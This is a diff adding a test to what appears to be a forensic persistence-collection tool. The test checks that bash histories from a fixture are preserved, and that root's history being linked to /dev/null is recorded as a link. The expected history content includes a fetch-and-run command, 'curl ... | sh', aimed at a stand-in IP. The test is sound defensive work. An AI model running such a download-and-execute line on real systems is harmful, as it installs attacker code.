@@ -334,6 +334,22 @@ TEST_CASE("persistence: the persistence_basic fixture", "[persistence]") {
   CHECK(sink.outcome.status == v1::RUN_OK);
   CHECK(testing::check_sources_preserved(sink.records) > 40);
 
+  SECTION("command histories are preserved files, a link to /dev/null recorded as a link") {
+    const v1::PreservedFile* alice = nullptr;
+    const v1::PreservedFile* root = nullptr;
+    for (const auto& r : sink.records) {
+      if (!r.has_preserved_file()) continue;
+      if (r.preserved_file().path() == "/home/alice/.bash_history") alice = &r.preserved_file();
+      if (r.preserved_file().path() == "/root/.bash_history") root = &r.preserved_file();
+    }
+    REQUIRE(alice != nullptr);
+    CHECK(alice->raw().find("curl -s http://203.0.113.7/x.sh | sh") != std::string::npos);
+    CHECK_FALSE(alice->sha256().empty());
+    REQUIRE(root != nullptr);
+    CHECK(root->link_target() == "/dev/null");
+    CHECK(root->raw().empty());
+  }
+
   SECTION("authorized keys of every account, with options and fingerprints") {
     auto keys = entries(sink, "authorized_key");
     std::map<std::string, std::vector<const v1::PersistenceEntry*>> by_path;
